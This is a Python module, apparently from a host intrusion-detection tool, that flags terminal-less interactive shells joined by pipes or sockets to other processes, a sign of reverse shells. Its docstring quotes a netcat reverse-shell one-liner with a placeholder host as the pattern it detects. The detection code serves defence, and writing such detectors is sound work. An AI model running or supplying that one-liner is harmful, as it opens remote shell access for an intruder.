"""Interactive shells without a terminal, and who is joined to them by pipes: `sh -i <f | nc HOST PORT >f`.

A shell asks and answers at a terminal. One that was told to (`-i`) while it reads from a pipe, a FIFO or a
socket has somebody at the other end of that; where this chain ends at a connection, somebody afar.
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterator, Mapping
from typing import Final

from ...host.live import Process
from ..interface import Verdict
from ..scene import Scene
from .programs import SHELLS, SYSTEM, Odd, base

CARRIERS: Final = (b"sshd", b"dropbear", b"emacs", b"tmux", b"screen", b"dtach", b"script", b"expect")
"""Programs that carry a shell for whoever logged in."""


def joined(scene: Scene) -> Mapping[int, tuple[Verdict, int]]:
    """Pid -> (what that is, the pid of such a shell) of the shells and of what stands at their other ends."""
    return scene.once(_joined)


def odd(scene: Scene, process: Process) -> Iterator[Odd]:
    """What that says of a process that has a connection."""
    verdict, shell = joined(scene).get(process.pid, (Verdict.FINE, 0))
    if shell:
        yield Odd(verdict, f"is joined to pid {shell}, an interactive shell without a terminal", "T1059.004")


def _joined(scene: Scene) -> dict[int, tuple[Verdict, int]]:
    shells = [one for one in scene.processes.values() if _is_told_to_ask(one) and _ends(scene, one.pid)[:1]]
    if not shells:
        return {}  # and nobody else is looked into
    at: dict[bytes, list[int]] = defaultdict(list)
    for pid in scene.processes:
        for end in _ends(scene, pid):
            at[end].append(pid)
    found: dict[int, tuple[Verdict, int]] = {}
    for shell in shells:
        parent = scene.processes.get(shell.parent)
        if parent and base(parent).startswith(CARRIERS) and (parent.exe or b"").startswith(SYSTEM):
            continue
        pending = [shell.pid]
        while pending:
            pid = pending.pop()
            if pid not in found:
                found[pid] = Verdict.SUSPICIOUS, shell.pid
                pending += [other for end in _ends(scene, pid) for other in at[end]]
        # A pair of sockets has two numbers, and whoever made it is the parent: so is a program that only
        # works its own shell. Init is everybody's in the end.
        if shell.parent > 1:
            found.setdefault(shell.parent, (Verdict.NOTABLE, shell.pid))
    return found


def _is_told_to_ask(process: Process) -> bool:
    """`sh -i`, without a command or script to run."""
    options = b"".join(one[1:] for one in process.argv[1:] if one[:1] == b"-" and one[:2] != b"--")
    words = [one for one in process.argv[1:] if one[:1] != b"-"]
    return base(process) in SHELLS and b"i" in options and b"c" not in options and not words


def _ends(scene: Scene, pid: int) -> list[bytes]:
    """Where its standard input and output lead, if that is to somebody else."""
    origin = scene.host.live.origin(pid)
    streams = origin.streams[:2] if origin is not None else ()
    return [one for one in streams if one.startswith((b"pipe:", b"socket:", b"/")) and one[:5] != b"/dev/"]
